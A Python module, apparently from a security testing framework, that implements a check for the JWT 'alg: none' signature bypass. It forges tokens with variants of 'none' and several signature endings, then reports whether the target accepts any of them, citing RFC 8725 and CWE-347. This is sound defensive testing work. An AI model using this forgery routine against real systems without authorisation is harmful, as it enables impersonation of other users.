"""Tokens that say they need no signature."""

from ..attack import Attack
from ..attacker import Attacker
from ..forge import header_of, segment
from ..verdict import Verdict, held, succeeded


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    target.require_tokens()
    login = target.log_in()
    _, payload, signature = login.credential.split(".")
    for alg in ("none", "None", "NONE", "nOnE", "", "none "):
        head = segment(header_of(login.credential) | {"alg": alg})
        for end in (".", "", f".{signature}", ".e30"):
            if target.me(login, f"{head}.{payload}{end}").status == 200:
                return succeeded(f"A token with alg {alg!r} was accepted.")
    return held("No token without a valid signature was accepted.")


ATTACK = Attack(
    id="forged-none",
    title="Tokens without a signature",
    story="An attacker writes a token and says in its header that it is not signed. A library"
    " that trusts the header checks nothing. The attacker is whoever the token names.",
    references=("RFC 8725 section 3.1", "CWE-347", "ASVS V9.1.2"),
    defences=("signatures of tokens are verified",),
    run=_run,
)
